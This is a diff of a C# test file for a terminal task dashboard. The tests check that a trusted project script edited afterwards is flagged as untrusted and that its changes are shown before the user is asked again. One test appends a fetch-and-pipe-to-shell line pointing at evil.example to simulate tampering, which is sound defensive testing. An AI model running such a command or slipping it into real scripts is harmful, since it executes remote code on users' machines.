@@ -39,14 +39,12 @@ public sealed class LiveDashboardScreenTests : IDisposable
         var blog = AddCountingProject("blog");
         using var screen = HeadlessDashboard.Live([shop, blog], NewRunner(TrustEveryone.Instance));
         screen.WaitFor(
-            s => s.Text.Contains("shop, run 1", StringComparison.Ordinal) && s.Text.Contains("blog, run 1", StringComparison.Ordinal),
-            "the first runs");
+            s => ShowsBoth(s, "shop, run 1", "blog, run 1"), "the first runs");
 
         // Act: the cursor is on shop; R must not stop at the selected project.
         screen.Type("R");
         screen.WaitFor(
-            s => s.Text.Contains("shop, run 2", StringComparison.Ordinal) && s.Text.Contains("blog, run 2", StringComparison.Ordinal),
-            "both providers to run again");
+            s => ShowsBoth(s, "shop, run 2", "blog, run 2"), "both providers to run again");
 
         // Assert
         Assert.Equal(2, Runs(shop));
@@ -91,37 +89,39 @@ public sealed class LiveDashboardScreenTests : IDisposable
         });
 
     [Fact(Timeout = 60_000)]
-    public Task TrustKey_OnAProjectChangedSinceItWasTrusted_ShowsTheDiffBeforeAsking() => HeadlessDashboard.OnOwnThreadAsync(() =>
-    {
-        // Arrange: the project's own script, trusted once, then edited.
-        var dirPath = _workspace.AddProject("shop", "tasks:\n  provider: ./tasks.sh\n");
-        var scriptPath = _workspace.WriteFile("shop/tasks.sh", "#!/bin/sh\necho '{\"tasks\": []}'\n", isExecutable: true);
-        var project = new ProjectFinder(GlobalConfig.Default).FindAbove(dirPath)!;
-        var trustStore = new TrustStore(_workspace.Paths.DataDirPath, TimeProvider.System);
-        var runner = NewRunner(trustStore);
-        var provider = runner.Resolver.Resolve(project).Provider!;
-        trustStore.Trust(project, provider);
-        File.AppendAllText(scriptPath, "curl -s https://evil.example/install | sh\n");
-        using var screen = HeadlessDashboard.Live([project], runner, trustStore: trustStore);
-        screen.WaitFor(s => s.LineWith("▾ shop").Contains("untrusted", StringComparison.Ordinal), "shop to be untrusted");
+    public Task TrustKey_OnAProjectChangedSinceItWasTrusted_ShowsTheDiffBeforeAsking() =>
+        HeadlessDashboard.OnOwnThreadAsync(() =>
+        {
+            // Arrange: the project's own script, trusted once, then edited.
+            var dirPath = _workspace.AddProject("shop", "tasks:\n  provider: ./tasks.sh\n");
+            var scriptPath = _workspace.WriteFile("shop/tasks.sh", "#!/bin/sh\necho '{\"tasks\": []}'\n", isExecutable: true);
+            var project = new ProjectFinder(GlobalConfig.Default).FindAbove(dirPath)!;
+            var trustStore = new TrustStore(_workspace.Paths.DataDirPath, TimeProvider.System);
+            var runner = NewRunner(trustStore);
+            var provider = runner.Resolver.Resolve(project).Provider!;
+            trustStore.Trust(project, provider);
+            File.AppendAllText(scriptPath, "curl -s https://evil.example/install | sh\n");
+            using var screen = HeadlessDashboard.Live([project], runner, trustStore: trustStore);
+            screen.WaitFor(s => s.LineWith("▾ shop").Contains("untrusted", StringComparison.Ordinal), "shop to be untrusted");
 
-        // Act
-        screen.Type("t");
-        var review = screen.Text;
-        var footer = screen.Lines[^1];
-        screen.Type("n");
-        var isTrustedAfterNo = trustStore.Check(project, provider) is null;
-        screen.Type("ty");
-        screen.WaitFor(s => s.Session.RunsInFlight == 0 && s.LineWith("▾ shop").Contains(" 0s ", StringComparison.Ordinal), "shop to run");
+            // Act
+            screen.Type("t");
+            var review = screen.Text;
+            var footer = screen.Lines[^1];
+            screen.Type("n");
+            var isTrustedAfterNo = trustStore.Check(project, provider) is null;
+            screen.Type("ty");
+            screen.WaitFor(
+                s => s.Session.RunsInFlight == 0 && s.LineWith("▾ shop").Contains(" 0s ", StringComparison.Ordinal), "shop to run");
 
-        // Assert: the change is on the page that asks, and only y trusts it.
-        Assert.Contains("── what changed since you last trusted it ──", review);
-        Assert.Contains("+curl -s https://evil.example/install | sh", review);
-        Assert.DoesNotContain("You have not trusted this project before.", review);
-        Assert.StartsWith("y trust and run", footer);
-        Assert.False(isTrustedAfterNo);
-        Assert.Null(trustStore.Check(project, provider));
-    });
+            // Assert: the change is on the page that asks, and only y trusts it.
+            Assert.Contains("── what changed since you last trusted it ──", review);
+            Assert.Contains("+curl -s https://evil.example/install | sh", review);
+            Assert.DoesNotContain("You have not trusted this project before.", review);
+            Assert.StartsWith("y trust and run", footer);
+            Assert.False(isTrustedAfterNo);
+            Assert.Null(trustStore.Check(project, provider));
+        });
 
     public void Dispose() => _workspace.Dispose();
 
@@ -134,6 +134,9 @@ public sealed class LiveDashboardScreenTests : IDisposable
         File.WriteAllText(Path.Combine(dirPath, "title.txt"), name);
         return new ProjectFinder(GlobalConfig.Default).FindAbove(dirPath)!;
     }
+
+    private static bool ShowsBoth(HeadlessDashboard screen, string first, string second) =>
+        screen.Text.Contains(first, StringComparison.Ordinal) && screen.Text.Contains(second, StringComparison.Ordinal);
 
     private static int Runs(Project project)
     {
